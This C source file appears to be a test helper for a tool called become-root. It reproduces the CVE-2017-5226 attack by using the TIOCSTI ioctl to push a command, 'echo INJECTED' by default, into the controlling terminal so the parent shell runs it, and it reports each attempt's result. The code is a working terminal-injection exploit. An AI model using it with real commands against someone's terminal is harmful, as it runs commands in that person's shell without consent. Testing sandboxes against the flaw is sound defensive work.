/* What a hostile image's init (or any pid 1 given a terminal) would do: push a line into the
 * terminal on each standard descriptor and on /dev/tty with TIOCSTI, so that the shell that
 * started become-root reads and runs it once become-root returns (CVE-2017-5226). The line is
 * argv[1] and a newline. Prints what each attempt gave on standard error, then exits 0. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *line = argc > 1 ? argv[1] : "echo INJECTED";
    int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR | O_NOCTTY)};
    const char *names[4] = {"stdin", "stdout", "stderr", "/dev/tty"};
    for (int i = 0; i < 4; i++) {
        if (fds[i] < 0) {
            fprintf(stderr, "tiocsti: %s: cannot open\n", names[i]);
            continue;
        }
        int err = 0;
        for (const char *c = line; *c && !err; c++)
            if (ioctl(fds[i], TIOCSTI, c) < 0)
                err = errno;
        if (!err && ioctl(fds[i], TIOCSTI, "\n") < 0)
            err = errno;
        fprintf(stderr, "tiocsti: %s: %s\n", names[i], err ? strerror(err) : "pushed");
    }
    return 0;
}
